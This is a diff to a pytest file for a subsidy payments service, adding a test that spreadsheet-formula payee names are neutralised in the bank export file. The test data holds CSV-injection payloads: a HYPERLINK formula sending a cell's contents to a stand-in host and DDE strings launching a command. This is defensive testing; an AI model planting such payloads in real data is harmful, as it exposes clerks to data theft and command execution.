@@ -1,7 +1,5 @@
 """Payees, payment batches, the bank payment file and reconciliation with the bank's results."""
 
-import csv
-import io
 import uuid
 
 import pytest
@@ -26,6 +24,7 @@ from tests.subsidies.factories import (
     get_app,
     get_fund,
     make_batch,
+    payment_lines,
     principal,
     ready_applications,
     register_payee,
@@ -226,6 +225,36 @@ class TestExportBatch:
         assert r.json()["state"] == "exported" and r.json()["exported_by"] == "user:clerk-1"
         assert ACCOUNT not in r.text
 
+    async def test_names_that_spreadsheets_would_run_are_neutralised(self, subsidies, feed):
+        # RELIABILITY #33: names typed into the platform reach the bank clerk's spreadsheet.
+        names = [
+            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+        ]
+        _, apps = await dedicated_applications(subsidies, feed, len(names), notice_days=0)
+        for app, name in zip(apps, names, strict=True):
+            await verify(subsidies, app["id"])
+            await approve(subsidies, app["id"])
+            r = await subsidies.client.post(
+                f"{API}/payees",
+                headers=CLERK2,
+                json={
+                    "beneficiary_kind": "worker",
+                    "beneficiary_id": app["beneficiary_id"],
+                    "holder_name": name,
+                    "account_number": ACCOUNT,
+                    "bank_name": "=1+2 Bank",
+                },
+            )
+            assert r.status_code == 201, r.text
+        batch = await make_batch(subsidies)
+        rows = await export(subsidies, batch["id"])
+        assert sorted(r["payee_name"] for r in rows) == sorted("'" + n for n in names)
+        assert {r["bank_name"] for r in rows} == {"'=1+2 Bank"}
+        assert {r["amount_fen"] for r in rows} == {"50000"}  # numbers stay numbers
+        assert {r["account_number"] for r in rows} == {ACCOUNT}
+
     async def test_exporting_twice_is_refused(self, subsidies, feed):
         await ready_applications(subsidies, feed, 1)
         batch = await make_batch(subsidies)
@@ -334,7 +363,7 @@ class TestDownloadBatchFile:
         first = await export(subsidies, batch["id"])
         await register_payee(subsidies, app["beneficiary_id"], account=OTHER_ACCOUNT)
         r = await subsidies.client.get(f"{API}/batches/{batch['id']}/file", headers=CLERK)
-        assert list(csv.DictReader(io.StringIO(r.text))) == first
+        assert payment_lines(r.text) == first
 
     async def test_file_is_never_stored_in_clear(self, subsidies, feed):
         await ready_applications(subsidies, feed, 1)
